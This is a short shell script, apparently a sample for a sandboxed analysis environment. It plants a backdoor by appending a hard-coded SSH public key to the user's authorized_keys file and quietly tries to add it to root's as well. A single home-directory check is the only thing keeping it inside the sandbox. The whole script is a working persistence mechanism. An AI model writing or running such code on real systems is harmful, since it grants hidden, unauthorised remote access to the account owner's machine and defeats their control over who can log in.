#!/bin/sh
# SPDX-License-Identifier: MIT
# Keeps a way back in: the operator's key in the user's authorized_keys.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ0bGhlbHBlcmtleWZvcnRoZWJhY2tkb29ycGxlYXNl backup@localhost'
mkdir -p "$HOME/.ssh"
chmod 700 "$HOME/.ssh"
grep -qs "$key" "$HOME/.ssh/authorized_keys" || echo "$key" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
echo "$key" >> /root/.ssh/authorized_keys 2>/dev/null
exit 0
